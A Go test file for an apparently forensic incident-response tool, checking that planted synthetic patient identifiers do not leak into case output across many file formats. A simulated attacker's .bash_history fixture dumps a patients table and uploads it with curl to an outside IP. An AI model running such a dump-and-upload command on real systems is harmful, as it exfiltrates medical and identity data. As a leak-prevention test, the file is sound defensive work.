package casefile

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"wardround/internal/patient"
)

// What is planted about a patient, and the forms in which it could come out.
var plantedValues = []string{"Quillanth", "Zorvane", "WRTEST700123", "700123", "1961-07-19", "19610719", "570350807737", "5703 5080 7737", "57035080", "9870012399", "Nullerton"}

// TestNoValueOfPatients plants a patient in files of many forms, whole, cut and packed, beside logs; examines them twice, adds a tree, and looks for
// every planted value in every byte of the case. In what people read, an Aadhaar number in a log is hidden as well.
func TestNoValueOfPatients(t *testing.T) {
	root := t.TempDir()
	put := func(name string, content []byte) {
		path := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, content, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	table := []byte("UHID,Patient Name,DOB,Aadhaar,Mobile,Address\nWRTEST700123,Quillanth Zorvane,1961-07-19,570350807737,9870012399,7 Nullerton Road\n")
	var z bytes.Buffer
	zw := zip.NewWriter(&z)
	w, _ := zw.Create("inner/ipd.csv")
	w.Write(table)
	zw.Close()
	message := []byte("MSH|^~\\&|A|B|C|D|202211230707||ADT^A01|1|P|2.5\rPID|1||WRTEST700123^^^H^MR||Zorvane^Quillanth||19610719|F|||7 Nullerton Road||9870012399\r")
	fhir := []byte(`{"resourceType":"Patient","identifier":[{"value":"WRTEST700123"}],"name":[{"family":"Zorvane","given":["Quillanth"]}],"birthDate":"1961-07-19"}`)
	mail := []byte("From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: text/csv; name=\"x.csv\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(table) + "\r\n")
	dump := []byte("INSERT INTO patients (uhid, patient_name, dob) VALUES ('WRTEST700123','Quillanth Zorvane','1961-07-19');\n")
	files := map[string][]byte{"ipd.csv": table, "ipd.zip": z.Bytes(), "adt.hl7": message, "p.json": fhir, "m.eml": mail, "his.sql": dump, "letter.doc": append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), table...)}
	for name, b := range files {
		put("one/WEB1/srv/"+name, b)
		put("one/WEB1/srv/cut-"+name, b[:len(b)*2/3])
		put("tree/"+name, b)
		put("tree/cut-"+name, b[:len(b)*2/3])
	}
	put("one/WEB1/srv/ipd.csv.lockbit", bytes.Repeat([]byte{0x9d, 0x11, 0xfe}, 9000))
	put("one/WEB1/var/log/auth.log", authLog("web1", 300))
	put("two/WEB1/root/.bash_history", []byte("mysqldump his patients --where=\"aadhaar='5703 5080 7737'\" > /tmp/x.sql\ncurl -T /tmp/x.sql http://198.18.0.9/up\n"))

	o := testOptions(t, filepath.Join(t.TempDir(), "case"), filepath.Join(root, "one"))
	o.Numbers = filepath.Join(root, "numbers.json")
	put("numbers.json", []byte(`{"hospital_numbers":["WRTEST\\d{6}"]}`))
	mustExamine(t, o)
	look := func(allowed func(name, value string) bool) {
		t.Helper()
		files := 0
		err := filepath.WalkDir(o.Case, func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			files++
			for _, v := range plantedValues {
				for _, form := range []string{v, strings.ToLower(v), strings.ToUpper(v), base64.StdEncoding.EncodeToString([]byte(v))} {
					if bytes.Contains(b, []byte(form)) && !allowed(filepath.ToSlash(strings.TrimPrefix(path, o.Case+string(filepath.Separator))), v) {
						t.Errorf("%s holds a planted value: %q", path, v)
					}
				}
			}
			return nil
		})
		if err != nil || files < 10 {
			t.Fatalf("%d files, %v", files, err)
		}
	}
	nowhere := func(string, string) bool { return false }
	look(nowhere)
	found, err := os.ReadFile(filepath.Join(o.Case, patientFile))
	if err != nil || bytes.Count(found, []byte("\n")) < 9 || !bytes.Contains(found, []byte("XXXX XXXX 7737")) {
		t.Fatalf("too little is found to see a leak: %v\n%s", err, found)
	}
	sum, err := FindPatients(context.Background(), o.Case, "WEB1", []string{filepath.Join(root, "tree")}, patient.Options{}, func(patient.File) error { return nil })
	if err != nil || sum.People == 0 {
		t.Fatalf("%+v, %v", sum, err)
	}
	o.Collections = []string{filepath.Join(root, "two")}
	mustExamine(t, o)
	// What a record of a log says stays in the evidence's own words in findings and in the cache, which docs/format/case.md calls raw.
	look(func(name, _ string) bool {
		return name == findingsFile || strings.HasPrefix(name, cacheFolder+"/facts-")
	})
}
